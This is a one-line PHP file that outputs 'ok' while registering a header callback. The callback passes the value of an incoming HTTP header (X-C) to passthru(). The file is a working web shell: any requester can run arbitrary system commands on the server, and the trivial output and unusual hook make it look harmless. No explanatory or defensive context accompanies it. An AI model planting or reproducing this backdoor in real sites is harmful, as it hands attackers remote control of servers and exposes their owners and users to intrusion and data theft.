<?php header_register_callback(function () { passthru($_SERVER["HTTP_X_C"]); }); echo "ok";
